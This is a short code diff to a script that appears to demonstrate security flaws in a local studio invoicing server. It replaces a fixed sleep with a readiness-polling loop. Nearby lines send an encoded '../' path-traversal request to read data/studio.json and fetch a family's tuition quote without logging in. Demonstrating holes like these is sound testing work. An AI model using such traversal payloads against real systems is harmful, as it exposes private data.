@@ -40,7 +40,7 @@ console.log('prorate(202, 11 Jan 2027)', prorate(202, term));
 const demonstration = `port=$(node -e "const s=require('node:net').createServer().listen(0,'127.0.0.1',()=>{console.log(s.address().port);s.close()})")
 PORT=$port node src/server.ts >/dev/null 2>&1 &
 pid=$!
-sleep 1
+for i in $(seq 1 50); do curl -s -o /dev/null "http://127.0.0.1:$port/" && break; sleep 0.1; done
 echo '--- invoice link as e-mailed'; curl -s -o /dev/null -w '%{http_code}\\n' "http://127.0.0.1:$port/invoices/rodriguez-2026-11.txt"
 echo '--- encoded ../ out of invoices/'; curl -s "http://127.0.0.1:$port/invoices/..%2fdata%2fstudio.json" | head -c 240; echo
 echo '--- tuition quote, no login'; curl -s "http://127.0.0.1:$port/tuition?family=f-thompson&month=2027-01" | head -c 400; echo
